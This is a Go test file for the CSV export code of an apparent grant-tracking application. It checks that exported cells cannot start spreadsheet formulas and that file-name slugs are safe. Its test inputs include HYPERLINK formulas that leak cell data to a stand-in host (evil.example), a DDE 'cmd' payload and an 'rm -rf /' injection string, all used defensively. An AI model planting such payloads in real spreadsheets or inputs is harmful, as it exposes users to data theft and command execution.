package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/fundtrack/fundtrack/shared/domain"
	"github.com/fundtrack/fundtrack/shared/export"
)

func TestText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"IPS in Bradford", "IPS in Bradford"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=1", "a=1"},           // only the first character matters
		{"'quoted", "'quoted"},   // already text
		{"£310,000", "£310,000"}, // non-ASCII first byte is fine
		// Blanks before the formula do not stop a spreadsheet running it.
		{" =1", "' =1"},
		{"\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
		{"\r\n=1+1", "'\r\n=1+1"},
		{"\n\n  \t+1", "'\n\n  \t+1"},
		{"  -2+3", "'  -2+3"},
		{"\n@SUM(A1:A9)", "'\n@SUM(A1:A9)"},
		{"\u00a0=1", "'\u00a0=1"},             // a no-break space is blank too
		{"\u200b\ufeff=1", "'\u200b\ufeff=1"}, // and so are invisible characters
		{"\uff1d1+1", "'\uff1d1+1"},           // full-width =
		{"\n", "\n"},
		{"  Leeds", "  Leeds"},
		{"\nLeeds = York", "\nLeeds = York"},
	} {
		if got := export.Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestPoundsPlain(t *testing.T) {
	for _, tc := range []struct {
		pence int64
		want  string
	}{
		{0, "0.00"},
		{1, "0.01"},
		{10, "0.10"},
		{99, "0.99"},
		{100, "1.00"},
		{31_000_000, "310000.00"},
		{12_345_678, "123456.78"},
		{domain.MaxAmountPence, "100000000000.00"},
		{-150, "-1.50"},
	} {
		if got := export.PoundsPlain(tc.pence); got != tc.want {
			t.Errorf("PoundsPlain(%d) = %q, want %q", tc.pence, got, tc.want)
		}
	}
}

func TestAmount(t *testing.T) {
	for _, tc := range []struct {
		pence int64
		want  string
	}{
		{31_000_000, "310000"},
		{123_450, "1234.5"},
		{123_456, "1234.56"},
		{5, "0.05"},
		{0, "0"},
	} {
		if got := string(export.Amount(tc.pence)); got != tc.want {
			t.Errorf("Amount(%d) = %q, want %q", tc.pence, got, tc.want)
		}
	}
}

func TestSlug(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"Working for Wellness", "working-for-wellness"},
		{"  IPS -- Bradford & Airedale (2025) ", "ips-bradford-airedale-2025"},
		// Accents come off and letters ASCII lacks are spelt out, so a
		// Welsh or Old English name keeps its words (audit N3).
		{"Café Réseau", "cafe-reseau"},
		{"Gwaith i Les – Côr Ysbyty Gwynedd", "gwaith-i-les-cor-ysbyty-gwynedd"},
		{"Ymddiriedolaeth Ælfric", "ymddiriedolaeth-aelfric"},
		{"Tŷ Ŵyn, Llŷn", "ty-wyn-llyn"},
		{"Øresund Straße Œuvre", "oresund-strasse-oeuvre"},
		{"Ðór Þing Łódź Đakovo Işık", "dor-thing-lodz-dakovo-isik"},
		{"Oﬃce № 5", "office-no-5"},
		{"Ynys Môn 東京", "ynys-mon"},
		{"££££", "programme"},
		{"", "programme"},
		{`"; rm -rf / ".csv`, "rm-rf-csv"},
		{strings.Repeat("abcde ", 30), strings.TrimRight(strings.Repeat("abcde-", 10), "-")},
	} {
		got := export.Slug(tc.in)
		if got != tc.want {
			t.Errorf("Slug(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if len(got) > 60 || strings.Trim(got, "abcdefghijklmnopqrstuvwxyz0123456789-") != "" {
			t.Errorf("Slug(%q) = %q is not a short ASCII slug", tc.in, got)
		}
	}
}

func TestWriteCSVQuotesAndLineEnds(t *testing.T) {
	var buf bytes.Buffer
	err := export.WriteCSV(&buf, []string{"A", "B"}, [][]string{{`say "hi", then`, "two\nlines"}, {"", "x"}})
	if err != nil {
		t.Fatal(err)
	}
	want := "\ufeffA,B\r\n\"say \"\"hi\"\", then\",\"two\r\nlines\"\r\n,x\r\n"
	if got := buf.String(); got != want {
		t.Fatalf("CSV:\n got %q\nwant %q", got, want)
	}
}

// fixtureSet is a small programme: two funders (one without an org-id), two
// projects and three grants, one of them to the whole programme and one
// with a title that tries formula injection.
func fixtureSet() export.GrantSet {
	at := time.Date(2025, 3, 4, 10, 20, 30, 123_000_000, time.UTC)
	return export.GrantSet{
		Programme: domain.Programme{ID: "01jprog0000000000000000000", Name: "Working for Wellness",
			LeadOrganisation: "Leicestershire Partnership NHS Trust"},
		Funders: []domain.Funder{
			{ID: "01jfunderx0000000000000000", Name: "Department of Health", OrgID: "GB-GOR-D12"},
			{ID: "01jfundery0000000000000000", Name: "Local Trust, Bradford"},
		},
		Projects: []domain.Project{
			{ID: "01jprojecta000000000000000", Name: "IPS Bradford", LeadOrganisation: "Bradford District Care NHS FT"},
			{ID: "01jprojectb000000000000000", Name: "Aspiro", LeadOrganisation: "Aspiro CIC"},
		},
		Grants: []domain.Grant{
			{ID: "01jgrant100000000000000000", FunderID: "01jfunderx0000000000000000", ProjectID: "01jprojecta000000000000000",
				Title: "Employment specialists", Description: "Two IPS employment specialists", AmountPence: 31_000_000,
				Currency: "GBP", AwardDate: domain.MustDate("2025-01-15"), StartDate: domain.MustDate("2025-02-01"),
				EndDate: domain.MustDate("2026-01-31"), Version: 1, CreatedAt: at, UpdatedAt: at},
			{ID: "01jgrant200000000000000000", FunderID: "01jfundery0000000000000000", ProjectID: "01jprojectb000000000000000",
				Title: `=HYPERLINK("http://evil.example","£ click")`, AmountPence: 1_234_505, Currency: "GBP",
				AwardDate: domain.MustDate("2025-02-28"), StartDate: domain.MustDate("2025-03-01"),
				EndDate: domain.MustDate("2025-12-31"), Version: 2, CreatedAt: at, UpdatedAt: at.Add(time.Hour)},
			{ID: "01jgrant300000000000000000", FunderID: "01jfunderx0000000000000000",
				Title: "Network co-ordination", Description: "Programme-wide", AmountPence: 30_000_000, Currency: "GBP",
				AwardDate: domain.MustDate("2025-01-15"), StartDate: domain.MustDate("2025-01-01"),
				EndDate: domain.MustDate("2027-12-31"), Version: 1, CreatedAt: at, UpdatedAt: at},
		},
	}
}

func TestGrantsCSVExact(t *testing.T) {
	var buf bytes.Buffer
	if err := export.GrantsCSV(&buf, fixtureSet()); err != nil {
		t.Fatal(err)
	}
	want := "\ufeff" +
		"Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n" +
		"01jgrant100000000000000000,Employment specialists,Department of Health,GB-GOR-D12,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31\r\n" +
		`01jgrant200000000000000000,"'=HYPERLINK(""http://evil.example"",""£ click"")","Local Trust, Bradford",,Aspiro,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
		"01jgrant300000000000000000,Network co-ordination,Department of Health,GB-GOR-D12,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31\r\n"
	if got := buf.String(); got != want {
		t.Fatalf("grants CSV:\n got %q\nwant %q", got, want)
	}
	// And a CSV reader sees the cells the spreadsheet will.
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 || rows[2][1] != `'=HYPERLINK("http://evil.example","£ click")` || rows[2][5] != "12345.05" {
		t.Fatalf("parsed rows: %q", rows)
	}
}

func TestGrantsCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := export.GrantsCSV(&buf, export.GrantSet{}); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffGrant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"
	if buf.String() != want {
		t.Fatalf("empty grants CSV: %q", buf.String())
	}
}

func TestOutcomeSummaryCSVExact(t *testing.T) {
	set := fixtureSet()
	tot := domain.NewTotals()
	a, b := set.Projects[0].ID, set.Projects[1].ID
	tot.ByProject[a] = map[domain.Metric]int64{domain.MetricReferrals: 12, domain.MetricPeopleIntoWork: 7, domain.MetricJobStarts: 8, domain.MetricSustainedJobs13Weeks: 1}
	tot.ByProject[b] = map[domain.Metric]int64{domain.MetricReferrals: 13, domain.MetricPeopleIntoWork: 1, domain.MetricInternsEnrolled: 4, domain.MetricInternsCompleted: 0}
	// Programme totals are the true sums; they are controlled themselves,
	// not added up from the controlled rows (10 + 15 would say 25).
	tot.Programme = map[domain.Metric]int64{domain.MetricReferrals: 25, domain.MetricPeopleIntoWork: 8, domain.MetricJobStarts: 8,
		domain.MetricSustainedJobs13Weeks: 1, domain.MetricInternsEnrolled: 4}
	// A third project, named to try formula injection, with nothing yet.
	projects := append(set.Projects, domain.Project{ID: "01jprojectc000000000000000", Name: "-Newcomers"})
	var buf bytes.Buffer
	if err := export.OutcomeSummaryCSV(&buf, export.OutcomeSet{Programme: set.Programme, Projects: projects, Totals: tot}); err != nil {
		t.Fatal(err)
	}
	want := "\ufeff" +
		"Project,Referrals,People into work,Job starts,Jobs sustained for 13 weeks,Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n" +
		"IPS Bradford,10,*,10,*,0,0,0,0\r\n" +
		"Aspiro,15,*,0,0,0,0,*,0\r\n" +
		"'-Newcomers,0,0,0,0,0,0,0,0\r\n" +
		"Programme total,25,10,10,*,0,0,*,0\r\n"
	if got := buf.String(); got != want {
		t.Fatalf("summary CSV:\n got %q\nwant %q", got, want)
	}
}

func TestOutcomeSummaryHeaderCoversEveryMetric(t *testing.T) {
	h := export.OutcomeSummaryHeader()
	if len(h) != 1+len(domain.Metrics) {
		t.Fatalf("header %q: want Project and one column per metric (%d)", h, len(domain.Metrics))
	}
	// Each column is headed by the metric's catalogue label, which an
	// import reads back as that metric.
	for i, m := range domain.Metrics {
		if h[i+1] != m.Label() {
			t.Errorf("metric %s has column %q, label %q", m, h[i+1], m.Label())
		}
		if got, ok := domain.ParseMetric(h[i+1]); !ok || got != m {
			t.Errorf("column %q reads back as %q, want %s", h[i+1], got, m)
		}
	}
}

// TestCSVExportsNeutraliseHostileCells: in both CSV exports, no text cell
// can start a formula, whatever blanks come first: each hostile name or
// title is written behind an apostrophe, and no cell, read back as a
// spreadsheet reads it, has =, +, - or @ as its first non-blank character.
// Before issue 11 "\n=HYPERLINK(…)" was written as it was.
func TestCSVExportsNeutraliseHostileCells(t *testing.T) {
	hostile := []string{
		"\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"\r\n=HYPERLINK(\"http://evil.example\")",
		" \t@SUM(A1:A9)",
		"  +cmd|' /C calc'!A0",
		"\n\n-2+3",
		"\u00a0=1+1",
	}
	set := fixtureSet()
	tot := domain.NewTotals()
	set.Projects = nil
	set.Grants = set.Grants[:0]
	for i, h := range hostile {
		id := fmt.Sprintf("01jhostile%016d", i)
		set.Projects = append(set.Projects, domain.Project{ID: id, Name: h})
		set.Funders = append(set.Funders, domain.Funder{ID: id, Name: h, OrgID: h})
		set.Grants = append(set.Grants, domain.Grant{ID: id, FunderID: id, ProjectID: id, Title: h, AmountPence: 100,
			Currency: "GBP", AwardDate: domain.MustDate("2025-01-01"), StartDate: domain.MustDate("2025-01-01"), EndDate: domain.MustDate("2025-12-31")})
		tot.ByProject[id] = map[domain.Metric]int64{domain.MetricReferrals: 10}
	}
	var grants, summary bytes.Buffer
	if err := export.GrantsCSV(&grants, set); err != nil {
		t.Fatal(err)
	}
	if err := export.OutcomeSummaryCSV(&summary, export.OutcomeSet{Programme: set.Programme, Projects: set.Projects, Totals: tot}); err != nil {
		t.Fatal(err)
	}
	for name, buf := range map[string]*bytes.Buffer{"grants.csv": &grants, "summary.csv": &summary} {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(rows) < len(hostile)+1 {
			t.Fatalf("%s: %d rows", name, len(rows))
		}
		neutralised := 0
		for _, row := range rows {
			for _, cell := range row {
				if first := strings.TrimLeft(cell, " \t\r\n\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
					t.Errorf("%s: cell %q can run as a formula", name, cell)
				}
				for _, h := range hostile {
					if cell == "'"+strings.ReplaceAll(h, "\r\n", "\n") || cell == "'"+h {
						neutralised++
					}
				}
			}
		}
		if want := map[string]int{"grants.csv": 4 * len(hostile), "summary.csv": len(hostile)}[name]; neutralised != want {
			t.Errorf("%s: %d cells kept behind an apostrophe, want %d:\n%s", name, neutralised, want, buf.String())
		}
	}
}
